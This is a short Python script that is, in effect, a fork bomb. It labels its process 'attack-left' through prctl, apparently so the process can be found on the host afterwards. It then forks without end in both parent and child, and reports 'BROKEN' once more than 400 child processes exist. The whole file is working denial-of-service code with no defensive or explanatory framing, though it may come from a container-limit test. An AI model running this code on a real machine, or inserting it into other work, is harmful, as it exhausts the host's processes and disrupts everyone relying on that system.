import ctypes
ctypes.CDLL(None).prctl(15, b"attack-left", 0, 0, 0)  # what a look at the host finds again

import os, time
born = refused = 0
while True:
    try:
        if os.fork() == 0:
            continue
        born += 1
    except OSError:
        refused += 1
        time.sleep(0.01)
    if born > 400:
        print("BROKEN", born, "children of one process", flush=True)
